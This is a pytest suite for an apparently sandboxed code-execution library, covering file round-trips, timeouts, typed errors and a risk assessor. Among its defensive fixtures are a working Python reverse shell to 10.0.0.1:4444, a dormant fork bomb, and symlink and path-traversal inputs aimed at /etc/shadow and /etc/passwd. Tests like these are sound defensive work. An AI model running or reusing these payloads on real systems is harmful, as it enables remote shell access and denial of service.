"""The Python API round-trips a job: files and stdin in, outputs and manifests out, typed errors."""
import hashlib
import json
import struct
import zlib

import pytest

from sandboxrun import BlockedError, DeadlineError, OverrideRefusedError, SetupError, UsageError
from sandboxrun.compat import SafetyCoordinator, SandboxExecutor, SecurityAssessor, SecurityLevel

ANALYSIS = r"""
import csv, json, struct, sys, zlib
import helpers
values = [float(r['value']) for r in csv.DictReader(open('data/input.csv'))]
extra = float(sys.stdin.read())
def chunk(kind, data):
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff)
raw = b''.join(b'\x00' + bytes([int(v) % 256] * 6) for v in values)
png = b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 2, len(values), 8, 2, 0, 0, 0)) \
    + chunk(b'IDAT', zlib.compress(raw)) + chunk(b'IEND', b'')
open('plot.png', 'wb').write(png)
json.dump({'total': helpers.total(values) + extra, 'argv': sys.argv[1:]}, open('report.json', 'w'))
print('ok')
"""

REVERSE_SHELL = """import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.0.1", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
"""


def test_analysis_round_trip(sandbox, tmp_path):
    helpers = tmp_path / "helpers.py"
    helpers.write_text("def total(v):\n    return sum(v)\n")
    csv_bytes = b"name,value\na,1\nb,2\nc,3\n"
    r = sandbox.run(ANALYSIS, files={"data/input.csv": csv_bytes, "helpers.py": helpers}, stdin=b"0.25",
                    args=["--fast"], caller="svc-42", labels={"team": "ml"})
    assert r.exit_code == 0, r.stderr
    assert r.status == "exited" and r.stdout == "ok\n"
    assert set(r.outputs) == {"plot.png", "report.json"}  # unchanged inputs do not come back
    for rec in r.output_manifest:
        assert hashlib.sha256(r.outputs[rec.path]).hexdigest() == rec.sha256
        assert rec.size == len(r.outputs[rec.path])
    assert r.outputs["plot.png"].startswith(b"\x89PNG")
    assert json.loads(r.outputs["report.json"]) == {"total": 6.25, "argv": ["--fast"]}
    inputs = {f.path: f for f in r.inputs}
    assert inputs["data/input.csv"].sha256 == hashlib.sha256(csv_bytes).hexdigest()
    assert set(inputs) == {"data/input.csv", "helpers.py"}
    assert r.caller == "svc-42" and r.labels == {"team": "ml"}
    assert r.outputs_truncated is False
    assert sandbox.audit_verify().ok


def test_input_module_with_reverse_shell_is_blocked(sandbox):
    with pytest.raises(BlockedError) as e:
        sandbox.run("import helper\n", files={"helper.py": REVERSE_SHELL.encode()})
    assert e.value.result.assessment.level == "BLOCKED"
    assert any(f.message.startswith("helper.py: ") for f in e.value.result.assessment.findings)
    # The message says why, not just an exit status.
    assert str(e.value).startswith("blocked by the assessor: BLOCKED (score "), str(e.value)
    assert "helper.py: " in str(e.value)


def test_blocked_code_says_why_in_the_compat_api_too(sandbox):
    with pytest.raises(BlockedError) as e:
        SafetyCoordinator(sandbox).execute_safely('s = "never closed\n')
    assert "does not compile" in str(e.value) and "override_explanation=" in str(e.value), str(e.value)


def test_outputs_survive_timeout_and_caps_are_reported(sandbox):
    r = sandbox.run("import os, time\nopen('partial.txt', 'w').write('half')\nos.symlink('/etc/shadow', 'link')\n"
                    "time.sleep(30)\n", timeout=3)
    assert r.status == "timeout" and r.exit_code == 124
    assert r.outputs == {"partial.txt": b"half"}
    assert any("symbolic link to /etc/shadow" in s["reason"] for s in r.outputs_skipped)


def test_typed_errors(sandbox, tmp_path):
    with pytest.raises(UsageError):
        sandbox.run("print(1)\n", labels={"bad key": "x"})
    with pytest.raises(UsageError):
        sandbox.run("print(1)\n", files={"../escape": b"x"})
    for name in ("../x.py", "a/b.py", "", ".."):
        with pytest.raises(UsageError):
            sandbox.run("print(1)\n", name=name)
    link = tmp_path / "link"
    link.symlink_to("/etc/passwd")
    with pytest.raises(SetupError) as e:
        sandbox.run("print(1)\n", files={"passwd": link})
    assert "symbolic link" in str(e.value)
    # The program's own exit status is not an error of the sandbox.
    r = sandbox.run("raise SystemExit(2)\n")
    assert r.exit_code == 2 and r.status == "exited"


def test_assess(sandbox):
    a = sandbox.assess(REVERSE_SHELL)
    assert a.level == "BLOCKED" and a.findings
    assert sandbox.assess("print(1)\n").level == "LOW"


def test_compat_names(sandbox):
    assert SecurityAssessor(sandbox).assess(REVERSE_SHELL).level is SecurityLevel.BLOCKED
    assert SandboxExecutor(sandbox).execute("print(40 + 2)\n").stdout == "42\n"
    coordinator = SafetyCoordinator(sandbox)
    dormant = "import os\nif False:\n    while True:\n        os.fork()\nprint('ran')\n"
    with pytest.raises(BlockedError):
        coordinator.execute_safely(dormant)
    with pytest.raises(OverrideRefusedError):
        coordinator.execute_safely(dormant, override_explanation="  ")
    r = coordinator.execute_safely(dormant, override_explanation="reviewed: the loop is dead code")
    assert r.stdout == "ran\n" and r.raw["overridden"] is True


def test_refused_override_raises_its_own_error(sandbox):
    dormant = "import os\nif False:\n    while True:\n        os.fork()\nprint('ran')\n"
    for reason in ("because", "   ", "............"):
        with pytest.raises(OverrideRefusedError) as e:
            sandbox.run(dormant, override=reason)
        assert isinstance(e.value, BlockedError)  # callers that catch BlockedError still do
        assert e.value.result.status == "blocked" and e.value.result.exit_code == 126
        assert "override" in str(e.value) and e.value.result.raw["override_refused"]
    assert "at least 12 characters" in str(e.value) or "distinct letters" in str(e.value)
    # Blocked without an override stays a plain BlockedError; an allowed override runs.
    with pytest.raises(BlockedError) as e:
        sandbox.run(dormant)
    assert not isinstance(e.value, OverrideRefusedError)
    r = sandbox.run(dormant, override="reviewed: the loop is dead code")
    assert r.stdout == "ran\n" and r.raw["overridden"] is True


def test_binary_output_comes_back_exactly(sandbox):
    r = sandbox.run("import sys\nsys.stdout.buffer.write(b'\\xff\\xfe ok')\nprint('t\\u00e9xt', file=sys.stderr)\n")
    assert r.stdout_bytes == b"\xff\xfe ok"
    assert r.stderr_bytes == "t\u00e9xt\n".encode()


def test_image_and_requirements_reach_the_command(sandbox):
    r = sandbox.run("print('ok')\n", image="default")
    assert r.stdout == "ok\n"
    with pytest.raises(SetupError) as e:
        sandbox.run("print('ok')\n", image="/nonexistent/rootfs")
    assert "/nonexistent/rootfs" in str(e.value)
    assert e.value.result.error_kind == "image"  # a service tells a missing image from the rest
    # A requirement line pip's parser refuses is named before anything is installed.
    with pytest.raises((SetupError, UsageError)) as e:
        sandbox.run("print('ok')\n", requirements=["-e ./local"])
    assert "-e ./local" in str(e.value) or "requirement" in str(e.value)


def test_env_reaches_the_program(sandbox):
    r = sandbox.run("import os\nprint(os.environ['GREETING'])\n", env={"GREETING": "hi there"})
    assert r.stdout == "hi there\n"
    with pytest.raises(UsageError):
        sandbox.run("print(1)\n", env={"BAD-NAME": "x"})


def test_deadline_stops_the_launcher_and_leaves_nothing(sandbox):
    import os, subprocess, time
    marker = f"deadline-marker-{os.getpid()}-{time.monotonic_ns()}"  # in the payload's argv
    started = time.monotonic()
    with pytest.raises(DeadlineError) as e:
        sandbox.run("import time\nprint('started', flush=True)\ntime.sleep(60)\n", deadline=3, trust="untrusted",
                    args=[marker])
    assert time.monotonic() - started < 20
    # The launcher answered SIGTERM: it killed the sandbox and reported the run's end.
    assert e.value.result is not None and e.value.result.stdout.startswith("started")
    left = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True).stdout
    assert left.strip() == "", "the sandboxed program outlived the deadline"
    with pytest.raises(UsageError):
        sandbox.run("print(1)", deadline=0)


def test_types_name_the_fields_the_command_writes(sandbox, tmp_path):
    """Finding, Assessment and FileRecord are the command's records (result_records.hpp,
    audit_events.hpp) field for field, and each RunResult field reads a key the command writes:
    a field renamed on either side fails here instead of reading as its default."""
    from dataclasses import fields

    from sandboxrun import Assessment, FileRecord, Finding, RunResult

    def names(cls):
        return {f.name for f in fields(cls)}

    r = sandbox.run("import os, subprocess\nopen('o.txt', 'w').write('x')\nos.symlink('/etc/passwd', 'l')\n",
                    files={"in.txt": b"1"}, caller="svc", labels={"k": "v"})
    written = set(r.raw)
    assert names(FileRecord) == set(r.raw["inputs"][0]) == set(r.raw["outputs"][0])
    assert names(Finding) == set(r.raw["assessment"]["findings"][0])
    assert names(Assessment) == set(r.raw["assessment"])
    link = tmp_path / "link"
    link.symlink_to("/etc/passwd")
    with pytest.raises(SetupError) as e:
        sandbox.run("print(1)\n", files={"passwd": link})
    written |= set(e.value.result.raw)
    renamed = {"output_manifest": "outputs"}  # RunResult.outputs holds the files' bytes
    # Written only when an output was cut.
    for name in names(RunResult) - {"raw", "outputs", "outputs_truncated"}:
        key = renamed.get(name, name)
        assert key in written, f"RunResult.{name} reads '{key}', which the command does not write"
